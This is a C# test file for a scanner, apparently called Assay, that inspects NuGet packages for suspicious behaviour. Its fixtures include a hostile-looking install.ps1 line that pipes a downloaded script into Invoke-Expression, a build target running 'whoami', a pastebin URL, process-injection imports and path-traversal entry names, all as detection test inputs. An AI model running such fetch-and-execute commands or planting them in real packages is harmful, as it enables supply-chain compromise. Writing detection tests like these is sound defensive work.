using System.Text;
using Assay.Model;
using Assay.Reports;
using Assay.TestInputs;

namespace Assay.Scan.Tests;

public sealed class ScannerTests
{
    private static readonly Scanner Scanner = new(new ScanOptions { Rules = EmbeddedRules.Load(), ToolVersion = "test" });

    private static readonly byte[] Listener = CSharpSample.CompileStatements("var l = new TcpListener(IPAddress.Any, 8080); l.Start(); using var c = l.AcceptTcpClient();");

    [Fact]
    public void A_finding_names_file_type_method_offset_and_arguments()
    {
        var report = Scan(new NupkgBuilder().Add("lib/net8.0/a.dll", Listener));

        var evidence = Assert.Single(report.Behaviors, behavior => behavior.Id == "opens-listening-socket").Evidence[0];

        Assert.Equal("lib/net8.0/a.dll", evidence.Artifact);
        Assert.Equal(("Sample", "Run"), (evidence.Location.Type, evidence.Location.Method));
        Assert.NotNull(evidence.Location.IlOffset);
        Assert.Equal(["call"], evidence.Surfaces);
    }

    [Fact]
    public void Two_scans_of_one_package_give_the_same_bytes()
    {
        var package = new NupkgBuilder().Add("lib/net8.0/a.dll", Listener).Add("lib/net6.0/a.dll", Listener).Add("build/a.targets", "<Project/>"u8.ToArray());

        Assert.Equal(Json(Scan(package)), Json(Scan(package)));
    }

    [Fact]
    public void What_was_scanned_before_leaves_nothing_behind()
    {
        // Large enough that the tables of the first package are what the others are written over.
        var large = CSharpSample.Compile(string.Concat(Enumerable.Range(0, 400).Select(number => $"public class C{number} {{ public string M(string a) => System.IO.File.ReadAllText(a + \"{number}\"); }}")));
        NupkgBuilder[] packages =
        [
            new NupkgBuilder().Add("lib/net8.0/a.dll", large).Add("lib/net6.0/b.dll", Listener),
            new NupkgBuilder().Add("lib/net8.0/a.dll", Listener).Add("build/a.targets", "<Project><Target Name=\"T\"><Exec Command=\"whoami\" /></Target></Project>"),
            new NupkgBuilder().Add("tools/install.ps1", "Invoke-WebRequest https://a.example/x | Invoke-Expression"),
        ];
        var fresh = packages.Select(package => Json(new Scanner(new ScanOptions { Rules = EmbeddedRules.Load(), ToolVersion = "test" }).Scan(new PackageFile("a.nupkg", "a.nupkg", package.Build()), TestContext.Current.CancellationToken))).ToArray();
        var scanner = new Scanner(new ScanOptions { Rules = EmbeddedRules.Load(), ToolVersion = "test" });

        var reports = new[] { 0, 1, 2, 1, 0, 2, 0 }.Select(number => (number, Report: scanner.Scan(new PackageFile("a.nupkg", "a.nupkg", packages[number].Build()), TestContext.Current.CancellationToken))).ToArray();

        Assert.All(reports, scanned => Assert.Equal(fresh[scanned.number], Json(scanned.Report)));
    }

    [Fact]
    public void Equal_content_is_read_once_and_reported_for_every_copy()
    {
        var report = Scan(new NupkgBuilder().Add("lib/net8.0/a.dll", Listener).Add("lib/net6.0/a.dll", Listener));

        Assert.Equal(2, Assert.Single(report.Behaviors, behavior => behavior.Id == "opens-listening-socket").Count);
    }

    [Fact]
    public void Web_addresses_are_counted_once_by_what_they_are_for_and_the_hosts_of_code_are_named()
    {
        var client = CSharpSample.CompileStatements("await new HttpClient().GetStringAsync(\"https://b.example/1\"); await new HttpClient().GetStringAsync(\"https://a.example/2\"); throw new Exception(\"https://help.example/3\");");
        var report = Scan(new NupkgBuilder()
            .Add("lib/net8.0/a.dll", client).Add("lib/net6.0/a.dll", client)
            .Add("lib/net8.0/a.xml", "<doc><member><see href=\"https://pages.example/4\"/></member></doc>")
            .Add("LICENSE.txt", "MIT License https://license.example/5")
            .Add("b.xml", "<a xmlns=\"https://names.example/6\"/>"));

        var urls = report.Contents.Urls;

        Assert.Equal((2, 2, 1, 1, 0), (urls.Code, urls.Documentation, urls.License, urls.Schema, urls.Certificate));
        Assert.Equal((2, "a.example b.example"), (urls.HostsTotal, string.Join(' ', urls.Hosts)));
    }

    [Theory]
    [InlineData("other.example", VerdictStatus.Pass)]
    [InlineData("denied.example", VerdictStatus.Fail)]
    public void A_package_that_names_a_denied_host_fails(string host, VerdictStatus verdict)
    {
        var scanner = new Scanner(new ScanOptions { Rules = EmbeddedRules.Load(), ToolVersion = "test", Settings = PolicySettings.Empty with { Hosts = new HostSettings([], ["denied.example"]) } });
        var bytes = new NupkgBuilder().Add("lib/net8.0/a.dll", CSharpSample.CompileStatements($"await new HttpClient().GetStringAsync(\"https://{host}/a\");")).Build();

        Assert.Equal(verdict, scanner.Scan(new PackageFile("a.nupkg", "a.nupkg", bytes)).Verdict.Status);
    }

    [Fact]
    public void An_allowed_host_is_no_finding()
    {
        var bytes = new NupkgBuilder().Add("lib/net8.0/a.dll", CSharpSample.CompileStatements("await new HttpClient().GetStringAsync(\"https://pastebin.com/raw/a\");")).Build();
        var settings = PolicySettings.Empty with { Hosts = new HostSettings(["pastebin.com"], []) };
        var file = new PackageFile("a.nupkg", "a.nupkg", bytes);

        Assert.Contains(Scanner.Scan(file).Issues, issue => issue.Id == "paste-service-url");
        Assert.DoesNotContain(new Scanner(new ScanOptions { Rules = EmbeddedRules.Load(), ToolVersion = "test", Settings = settings }).Scan(file).Issues, issue => issue.Id == "paste-service-url");
    }

    [Fact]
    public void A_library_hidden_in_a_resource_is_read_like_any_other()
    {
        var host = CSharpSample.Compile("public class C { }", resources: [new Microsoft.CodeAnalysis.ResourceDescription("payload", () => new MemoryStream(Listener), isPublic: true)]);

        var report = Scan(new NupkgBuilder().Add("analyzers/dotnet/cs/a.dll", host));

        var behavior = Assert.Single(report.Behaviors, behavior => behavior.Id == "opens-listening-socket");
        Assert.Equal("analyzers/dotnet/cs/a.dll!resource:payload", behavior.Evidence[0].Artifact);
        Assert.Equal(["compile"], behavior.Surfaces);
    }

    [Fact]
    public void A_garbage_library_is_a_problem_and_the_verdict_unknown()
    {
        var report = Scan(new NupkgBuilder().Add("lib/net8.0/a.dll", Listener[..700]));

        Assert.Equal(VerdictStatus.Unknown, report.Verdict.Status);
        Assert.NotEmpty(report.Coverage.Problems);
    }

    [Fact]
    public void A_second_entry_of_the_same_name_cannot_hide_behind_the_first()
    {
        var broken = (byte[])Listener.Clone();
        broken[broken.AsSpan().IndexOf("BSJB"u8)] = (byte)'X';

        var report = Scan(new NupkgBuilder().Add("lib/net8.0/a.dll", "plain text").Add("lib/net8.0/a.dll", broken));

        Assert.Equal(VerdictStatus.Unknown, report.Verdict.Status);
    }

    [Theory]
    [InlineData("../escape.dll")]
    [InlineData("/absolute.dll")]
    public void An_entry_that_leaves_the_package_is_reported(string name)
    {
        var report = Scan(new NupkgBuilder().Add(name, Listener));

        Assert.Contains(report.Coverage.Problems, problem => problem.Id == "zip-unsafe-name");
    }

    [Theory]
    [InlineData("README.md", "# Not a package")]
    [InlineData("hosts", "127.0.0.1 localhost")]
    public void A_file_that_is_no_package_and_no_code_does_not_pass(string name, string content)
    {
        var report = Scanner.Scan(new PackageFile(name, name, Encoding.UTF8.GetBytes(content)));

        Assert.Equal(VerdictStatus.Unknown, report.Verdict.Status);
        Assert.Equal("input-unreadable", Assert.Single(report.Coverage.Problems).Id);
    }

    [Theory]
    [InlineData("build/run.vbe", "#@~^AA==")]
    [InlineData("build/Sample.targets", "<Project><UsingTask TaskName=\"A\" TaskFactory=\"RoslynCodeTaskFactory\" AssemblyFile=\"$(MSBuildToolsPath)/Microsoft.Build.Tasks.Core.dll\"><Task><Code Type=\"Fragment\" Language=\"vb\">Dim a = 1</Code></Task></UsingTask></Project>")]
    public void Code_without_an_analyser_is_named_in_the_coverage(string name, string content)
    {
        var report = Scan(new NupkgBuilder().Add(name, content));

        Assert.Equal("code-not-analysed", Assert.Single(report.Coverage.Problems).Id);
        Assert.Equal(1, report.Coverage.Partial);
        Assert.Equal(VerdictStatus.Pass, report.Verdict.Status);
        Assert.Contains(report.Verdict.Reasons, reason => reason.StartsWith("Not analysed: 1 file", StringComparison.Ordinal));
        Assert.Equal("No issues in what was analysed", report.Assessments.Malware.Label);
    }

    [Fact]
    public void A_native_library_is_described_and_decides_nothing()
    {
        var library = PeBuilder.WithCode(wide: false, characteristics: 0x2102).Imports(("KERNEL32.dll", ["CreateProcessW", "WriteProcessMemory", "CreateRemoteThread"])).Resources((10, PeBuilder.WithCode().Build())).Build();

        var report = Scan(new NupkgBuilder().Add("runtimes/win-x64/native/a.dll", library));

        Assert.Equal(VerdictStatus.Pass, report.Verdict.Status);
        Assert.Equal("import", report.Behaviors.Single(behavior => behavior.Id == "starts-process").Evidence[0].Kind.ToString().ToLowerInvariant());
        Assert.All((string[])["writes-process-memory", "starts-remote-thread", "embeds-executable", "ships-code-for-other-machine"], id => Assert.Contains(report.Behaviors, behavior => behavior.Id == id));
        Assert.DoesNotContain(report.Behaviors, behavior => behavior.Id == "combines-suspicious-behaviors");
        Assert.Contains(report.Files, file => file.Path.EndsWith("a.dll!rsrc:10/101", StringComparison.Ordinal));
        Assert.Equal(["code-not-analysed"], report.Coverage.Problems.Select(problem => problem.Id).Distinct());
    }

    private static PackageReport Scan(NupkgBuilder package) => Scanner.Scan(new PackageFile("a.1.0.0.nupkg", "test", package.Build()));

    private static string Json(PackageReport report)
    {
        using var stream = new MemoryStream();
        JsonReport.Write(report, stream);
        return Encoding.UTF8.GetString(stream.ToArray());
    }
}
